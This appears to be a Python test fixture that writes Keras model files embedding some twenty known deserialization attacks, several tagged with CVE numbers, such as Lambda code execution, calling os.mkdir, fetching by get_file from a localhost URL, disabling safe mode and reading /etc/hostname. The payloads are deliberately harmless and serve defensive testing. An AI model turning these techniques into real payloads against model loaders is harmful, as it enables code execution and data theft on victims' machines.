"""Model files of the kinds by which Keras was attacked.

Each is harmless: it would leave a file `marker` in the working folder, or ask a port of this machine.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
from keras import layers

from tests.models import nets

Json = dict[str, Any]


def function(module: str, name: str) -> Json:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layer(module: str, name: str, /, **config: Any) -> Json:
    return {"module": module, "class_name": name, "config": {"name": "g", **config}, "registered_name": None}


def _activation(called: Json) -> Json:
    return layer("keras.layers", "Activation", activation=called)


def _url(port: int) -> str:
    return f"http://127.0.0.1:{port}/x"


def _lambda(_: int) -> tuple[Json, Json]:
    """CVE-2024-3660: Python code in the file."""
    # The file stays open: no statement fits into a lambda, and that a marker appears is all that is asked.
    leak = layers.Lambda(lambda x: [open("marker", "w"), x][1], name="g")  # noqa: SIM115 - see above
    code = keras.saving.serialize_keras_object(leak)
    return code, {}


def _module(_: int) -> tuple[Json, Json]:
    """CVE-2025-1550: any function of any module."""
    return _activation(function("os", "mkdir")), {"inputs": "marker"}


def _keras_module(_: int) -> tuple[Json, Json]:
    """The same by a module that Keras imports."""
    return _activation(function("keras.src.utils.file_utils", "os.mkdir")), {"inputs": "marker"}


def _download(port: int) -> tuple[Json, Json]:
    """CVE-2025-8747; and, by what it unpacks, CVE-2025-12060 and CVE-2025-12638."""
    return _activation(function("keras.utils", "get_file")), {
        "inputs": "x",
        "origin": _url(port),
        "extract": True,
    }


def _unsafe(_: int) -> tuple[Json, Json]:
    """CVE-2025-9906: the file itself turns the safe mode off."""
    return _activation(function("keras.config", "enable_unsafe_deserialization")), {}


def _lambda_of_keras(_: int) -> tuple[Json, Json]:
    """CVE-2025-8747: a Lambda needs no code where it may name a function of Keras."""
    called = function("keras.utils", "get_file")
    return layer("keras.layers", "Lambda", function=called, arguments={"origin": "x"}), {"inputs": "x"}


def _vocabulary_url(port: int) -> tuple[Json, Json]:
    """CVE-2025-12058: what a vocabulary names is read, or fetched."""
    return layer("keras.layers", "StringLookup", vocabulary=_url(port)), {}


def _vocabulary_file(_: int) -> tuple[Json, Json]:
    return layer("keras.layers", "TextVectorization", vocabulary="/etc/hostname"), {}


def _pickle(_: int) -> tuple[Json, Json]:
    """CVE-2025-49655."""
    return layer(
        "keras.layers", "TorchModuleWrapper", module={"class_name": "__bytes__", "config": "gAWV"}
    ), {}


def _saved_model(_: int) -> tuple[Json, Json]:
    """keras-team/keras#22035: another file's program, as a layer."""
    return layer("keras.layers", "TFSMLayer", filepath="saved"), {}


def _saved_model_as_function(_: int) -> tuple[Json, Json]:
    return _activation(function("keras.layers", "TFSMLayer")), {"inputs": "saved"}


def _state(_: int) -> tuple[Json, Json]:
    return _activation(function("keras", "config.set_floatx")), {"inputs": "float64"}


def _save(_: int) -> tuple[Json, Json]:
    return _activation(function("keras.utils", "save_img")), {"inputs": "marker", "x": [[[0]]]}


def _other_model(_: int) -> tuple[Json, Json]:
    return _activation(function("keras.saving", "load_model")), {"inputs": "other.h5", "safe_mode": False}


def _dotted(_: int) -> tuple[Json, Json]:
    return layer("keras", "layers.Lambda", function=function("builtins", "print")), {}


def _registered(_: int) -> tuple[Json, Json]:
    return {**layer("keras.layers", "ReLU"), "registered_name": "mine>evil"}, {}


def _older_function(_: int) -> tuple[Json, Json]:
    """Without a module Keras takes the older way, which calls any name in keras.layers."""
    entry = layer("keras.layers", "deserialize", config=function("keras.utils", "get_file"))
    del entry["module"]
    return entry, {}


def _compiled(port: int) -> tuple[Json, Json]:
    """Keras leaves out how the outermost model was compiled, and no other."""
    inner = keras.Sequential([keras.Input((16, 16, 3)), layers.ReLU()], name="g")
    entry = keras.saving.serialize_keras_object(inner)
    lost = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": _url(port)},
        "registered_name": None,
    }
    return {**entry, "compile_config": {"optimizer": "adam", "loss": lost}}, {}


def _initializer(_: int) -> tuple[Json, Json]:
    initializer = {**function("keras.utils", "get_file"), "class_name": "get_file", "config": {"fname": "x"}}
    return layer("keras.layers", "Conv2D", filters=3, kernel_size=1, kernel_initializer=initializer), {}


def _policy(_: int) -> tuple[Json, Json]:
    return layer("keras.layers", "ReLU", dtype=layer("keras.config", "set_dtype_policy")), {}


def _type_spec(_: int) -> tuple[Json, Json]:
    type_spec = {
        "class_name": "__typespec__",
        "module": "os",
        "spec_name": "mkdir",
        "registered_name": "x",
        "config": [],
    }
    return layer("keras.layers", "ReLU", negative_slope=type_spec), {}


ATTACKS: dict[str, Callable[[int], tuple[Json, Json]]] = {
    each.__name__.strip("_"): each
    for each in (
        _lambda,
        _module,
        _keras_module,
        _download,
        _unsafe,
        _lambda_of_keras,
        _vocabulary_url,
        _vocabulary_file,
        _pickle,
        _saved_model,
        _saved_model_as_function,
        _state,
        _save,
        _other_model,
        _dotted,
        _registered,
        _older_function,
        _compiled,
        _initializer,
        _policy,
        _type_spec,
    )
}


def _victim() -> keras.Model:
    image = keras.Input((16, 16, 3), name="image")
    x = layers.Conv2D(4, 3, name="c")(layers.ReLU(name="g")(layers.Rescaling(1 / 255, name="r")(image)))
    return keras.Model(image, layers.Dense(3, name="d")(layers.GlobalAveragePooling2D(name="p")(x)), name="m")


def write_keras(name: str, path: Path, port: int) -> Path:
    """`path`, a .keras whose layer g is the attack of that name."""
    saved = path.with_name("victim.keras")
    _victim().save(saved)
    attack, called = ATTACKS[name](port)
    with zipfile.ZipFile(saved) as old, zipfile.ZipFile(path, "w") as new:
        for member in old.namelist():
            content = old.read(member)
            if member == "config.json":
                config = json.loads(content)
                layers_ = config["config"]["layers"]
                index = next(i for i, each in enumerate(layers_) if each["name"] == "g")
                nodes = layers_[index]["inbound_nodes"]
                if called:
                    nodes = [{"args": [], "kwargs": called}]
                layers_[index] = {**attack, "name": "g", "inbound_nodes": nodes}
                content = json.dumps(config).encode()
            new.writestr(member, content)
    saved.unlink()
    return path


def write_h5(name: str, path: Path, port: int, version: str) -> Path:
    """The same in a .h5 that says that it is of that version of Keras."""
    nets.save_h5(_victim(), path)
    attack, called = ATTACKS[name](port)
    with h5py.File(path, "r+") as opened:
        config = json.loads(opened.attrs["model_config"])
        layers_ = config["config"]["layers"]
        index = next(i for i, each in enumerate(layers_) if each["name"] == "g")
        nodes = [[["r", 0, 0, called]]]
        layers_[index] = {**attack, "name": "g", "inbound_nodes": nodes}
        opened.attrs["model_config"] = json.dumps(config)
        opened.attrs["keras_version"] = version
    return path
